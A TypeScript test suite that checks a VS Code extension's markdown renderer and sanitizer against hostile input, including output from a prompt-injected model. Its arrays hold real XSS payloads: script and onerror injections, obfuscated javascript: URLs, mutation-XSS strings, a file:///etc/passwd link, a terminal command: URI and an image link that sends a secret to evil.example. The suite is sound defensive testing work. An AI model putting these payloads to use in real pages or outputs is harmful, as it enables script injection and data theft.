import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { isAllowedHref } from '../../../src/webview/render/markdown';
import { createRenderer, createWindow } from './helpers';

const win = createWindow();
const doc = win.document;
const markdown = createRenderer(win);

/** Markdown an attacker (or a prompt-injected model) might produce. */
const HOSTILE_MARKDOWN: readonly string[] = [
  '<script>alert(1)</script>',
  'text <script>alert(1)</script> inline',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=1></circle></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body { display: none }</style>',
  '<a href="javascript:alert(1)">raw html link</a>',
  '<form action="https://evil.example"><input name=q></form>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](  javascript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](&#x6A;avascript&#x3A;alert(1))',
  '[click](java&#x09;script:alert(1))',
  '[click](java%0Ascript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[click](VBScript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)',
  '[click](file:///etc/passwd)',
  '[click](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22rm%22%7D)',
  '[click](vscode://some.extension/run)',
  '[ref][x]\n\n[x]: javascript:alert(1)',
  '<javascript:alert(1)>',
  'autolink javascript:alert(1) and data:text/html,hi',
  '[t](https://ok.example "a\\" onmouseover=\\"alert(1)")',
  '![leak](https://evil.example/collect?secret=KEY)',
  '![pixel](data:image/png;base64,iVBORw0KGgo=)',
  '![x](javascript:alert(1))',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '``` onload=alert(1) style=x\ncode\n```',
  '`<script>alert(1)</script>`',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '> <iframe srcdoc="<script>alert(1)</script>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

/** Raw HTML straight into the sanitizer: defence in depth if markdown-it ever let HTML through. */
const HOSTILE_HTML: readonly string[] = [
  '<script>alert(1)</script><p>ok</p>',
  '<img src=x onerror=alert(1)><p onclick="alert(1)" onmouseover=alert(2)>p</p>',
  '<svg><script>alert(1)</script></svg><svg onload=alert(1)></svg>',
  '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
  '<style>*{}</style><p style="background:url(https://evil.example)">styled</p>',
  '<a href="javascript:alert(1)">a</a><a href=" JAVASCRIPT:alert(1)">b</a><a href="jav&#x09;ascript:alert(1)">c</a>',
  '<a href="data:text/html,<script>alert(1)</script>">d</a><a href="vbscript:x">e</a><a href="//evil.example">f</a>',
  '<form action=x><button formaction="javascript:alert(1)">x</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div><base href="https://evil.example"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href=x></div>',
  '<code class="turn-error hljs-keyword language-ts">x</code><span class="retry">y</span>',
];

const FORBIDDEN_TAGS = ['script', 'iframe', 'frame', 'style', 'svg', 'math', 'img', 'object', 'embed', 'form', 'input', 'button', 'link', 'meta', 'base', 'noscript'];

function assertInert(container: Element, label: string): void {
  // Code block toolbars are added by us after sanitizing (buttons with SVG icons); check their
  // shape, then judge only what came out of the sanitizer.
  for (const toolbar of Array.from(container.querySelectorAll('.code-toolbar'))) {
    const tags = new Set(Array.from(toolbar.querySelectorAll('*')).map((n) => n.tagName.toLowerCase()));
    assert.deepEqual([...tags].sort(), ['button', 'path', 'span', 'svg'], label);
    toolbar.remove();
  }
  for (const tag of FORBIDDEN_TAGS) assert.equal(container.querySelector(tag), null, `${label}: <${tag}> survived`);
  for (const node of Array.from(container.querySelectorAll('*'))) {
    for (const attr of Array.from(node.attributes)) {
      assert.ok(!/^on/i.test(attr.name), `${label}: ${attr.name} on <${node.tagName}>`);
      assert.ok(!['style', 'src', 'srcdoc', 'srcset', 'action', 'formaction', 'xlink:href'].includes(attr.name), `${label}: ${attr.name} kept`);
    }
    const href = node.getAttribute('href');
    if (href !== null) assert.match(href, /^(?:https?|mailto):/i, `${label}: href ${href}`);
  }
}

function rendered(fragment: DocumentFragment): HTMLElement {
  const container = doc.createElement('div');
  container.append(fragment);
  return container;
}

describe('markdown rendering of hostile input', () => {
  for (const source of HOSTILE_MARKDOWN) {
    it(`renders inert: ${JSON.stringify(source).slice(0, 70)}`, () => {
      assertInert(rendered(markdown.render(source)), source);
    });
  }

  it('sanitizes raw HTML on its own (defence in depth)', () => {
    for (const html of HOSTILE_HTML) assertInert(rendered(markdown.sanitize(html)), html);
  });

  it('drops classes the model could use to imitate the UI, keeps highlight.js ones', () => {
    const container = rendered(markdown.sanitize(HOSTILE_HTML.at(-1) ?? ''));
    assert.equal(container.querySelector('code')?.getAttribute('class'), 'hljs-keyword language-ts');
    assert.equal(container.querySelector('span')?.hasAttribute('class'), false);
  });

  it('shows raw HTML from markdown as text', () => {
    assert.equal(rendered(markdown.render('<b>bold?</b>')).textContent?.trim(), '<b>bold?</b>');
  });

  it('turns a remote image into a link instead of loading it', () => {
    const container = rendered(markdown.render('![chart](https://example.com/chart.png)'));
    assert.equal(container.querySelector('img'), null);
    const link = container.querySelector('a.md-image');
    assert.equal(link?.getAttribute('href'), 'https://example.com/chart.png');
    assert.equal(link?.textContent, 'Image: chart');
  });

  it('keeps safe links, with rel and the real target in the title', () => {
    const container = rendered(markdown.render('[docs](https://example.com/a?b=1) [mail](mailto:me@example.com)'));
    const [docs, mail] = Array.from(container.querySelectorAll('a'));
    assert.equal(docs?.getAttribute('href'), 'https://example.com/a?b=1');
    assert.equal(docs?.getAttribute('rel'), 'noopener noreferrer');
    assert.equal(docs?.getAttribute('title'), 'https://example.com/a?b=1');
    assert.equal(mail?.getAttribute('href'), 'mailto:me@example.com');
  });

  it('converts table alignment to classes (inline style is blocked by the CSP)', () => {
    const container = rendered(markdown.render('| a | b |\n|:-:|--:|\n| 1 | 2 |'));
    assert.equal(container.querySelector('th')?.getAttribute('class'), 'align-center');
    assert.equal(container.querySelector('[style]'), null);
  });

  it('adds Copy, Insert and Apply buttons after sanitizing, with labels', () => {
    const container = rendered(markdown.render('```ts\nconst a = 1;\n```'));
    const buttons = Array.from(container.querySelectorAll('.code-block button'));
    assert.deepEqual(buttons.map((b) => b.getAttribute('data-action')), ['copy-code', 'insert-code', 'apply-code', 'wrap-code']);
    assert.deepEqual(buttons.map((b) => b.getAttribute('aria-label')), ['Copy ts code', 'Insert ts code into the editor', 'Apply this ts code to the selection (or the lines it matches, else the whole file) as a diff you can accept or discard', 'Wrap long lines']);
    assert.ok(container.querySelector('pre code span.hljs-keyword'));
  });

  it('isAllowedHref accepts only http, https and mailto', () => {
    for (const ok of ['https://a.example', 'HTTP://a.example/x', 'mailto:a@b.c']) assert.ok(isAllowedHref(ok), ok);
    for (const bad of ['javascript:alert(1)', ' https://a.example', 'java\tscript:x', 'https://a.example/\u0000', 'data:text/html,x', 'command:x', 'vscode://x', '//a.example', '#top', 'file:///etc/passwd']) {
      assert.ok(!isAllowedHref(bad), bad);
    }
  });
});
